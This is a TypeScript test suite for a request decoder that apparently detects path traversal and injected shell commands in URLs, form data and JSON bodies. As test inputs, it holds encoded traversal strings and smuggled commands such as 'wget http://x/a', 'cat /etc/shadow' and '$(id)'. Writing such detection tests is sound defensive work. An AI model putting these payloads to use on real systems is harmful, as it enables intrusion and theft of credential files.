import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { costOf, hundredKilobytes } from './cost.fixture.ts'
import { readRequest } from './request.ts'

describe('a request as an application sees it', () => {
  it('is decoded twice', () => {
    const { path, query, params } = readRequest('/a/%252e%252e/b?x=%2Fetc%2Fpasswd&y=a+b', '', false)
    expect({ path, query, params }).toEqual({ path: '/a/../b', query: 'x=/etc/passwd&y=a b', params: ['x=/etc/passwd', 'y=a b'] })
  })

  it('shows overlong and IIS forms of a slash', () => {
    expect(readRequest('/..%c0%af..%c0%afetc', '', false).path).toBe('/../../etc')
    expect(readRequest('/..%u002f..', '', false).path).toBe('/../..')
  })

  it('finds commands behind separators and in parameters that run', () => {
    expect(readRequest('/ping?host=1.2.3.4;wget%20http://x/a', '', false).injected).toContain('wget http://x/a')
    expect(readRequest('/x?cmd=cat+/etc/passwd', '', false).injected).toEqual(['cat /etc/passwd'])
    expect(readRequest('/x', 'ip=1%3Bid', true).injected).toContain('id')
    expect(readRequest('/x?a=$(id)', '', false).injected).toEqual(['id'])
    expect(readRequest('/x?q=hello+world&id=7', '', false).injected).toEqual([])
  })

  it('finds the first of several commands, and those in JSON', () => {
    expect(readRequest('/x?q=cat%20/etc/passwd;id', '', false).injected).toEqual(['cat /etc/passwd', 'id'])
    expect(readRequest('/x?ip=127.0.0.1%0Aid%0Auname%20-a', '', false).injected).toEqual(['127.0.0.1', 'id', 'uname -a'])
    expect(readRequest('/x', '{"cmd":"cat /etc/passwd"}', false).injected).toEqual(['cat /etc/passwd'])
    expect(readRequest('/x', '{"a":{"host":"8.8.8.8; id"}}', false).injected).toContain('id')
    expect(readRequest('/x', '{"Image":"alpine","Cmd":["cat","/etc/shadow"]}', false).injected).toContain('cat /etc/shadow')
    expect(readRequest('/x', '{"name":"$(wget http://x/a)","n":[1,{"b":"\\u0060id\\u0060"}]}', false).injected).toEqual(
      expect.arrayContaining(['wget http://x/a', 'id']),
    )
    expect(readRequest('/x', '{"cmd":"cat /etc/passwd","cut":"of', false).injected).toContain('cat /etc/passwd')
    expect(readRequest('/x', '{"user":"anna","password":"correct horse"}', false).injected).toEqual([])
    expect(readRequest('/x', '{"__proto__":{"cmd":"id"},"":null}', false).injected).toEqual(['id'])
  })

  it('takes time that grows with the request and no faster: 100 kB, whatever they are, cost less than to take them apart into characters', () => {
    const pieces = [
      '{"a":"',
      '["b",',
      '{"a":',
      '"a":["b",',
      '%25',
      '%u0041',
      'x=1;a&',
      ';id',
      '`',
      '$(',
      '\\',
      '{"a":"b\\"',
      '&',
      '=',
      '"',
      '%',
    ]
    const mixed = fc.sample(fc.array(fc.constantFrom(...pieces), { minLength: 2, maxLength: 12 }), { numRuns: 8, seed: 7 })
    for (const unit of [...pieces, ...mixed.map((each) => each.join(''))]) {
      const text = hundredKilobytes(unit)
      expect(
        costOf(text, () => readRequest(`/x?${text}`, '', true)),
        unit,
      ).toBeLessThan(1)
      expect(
        costOf(text, () => readRequest('/x', `{${text}`, false)),
        unit,
      ).toBeLessThan(1)
    }
  })

  it('never throws', () => {
    fc.assert(fc.property(fc.string(), fc.string(), fc.boolean(), (url, body, form) => void readRequest(url, body, form)))
    fc.assert(
      fc.property(fc.array(fc.constantFrom('%', '%2', '%u00', '%ff', '&', '=', '?', ';', '`', '$('), { maxLength: 300 }), (pieces) => {
        expect(readRequest(pieces.join(''), pieces.join(''), true).injected.length).toBeLessThanOrEqual(32)
      }),
    )
  })
})
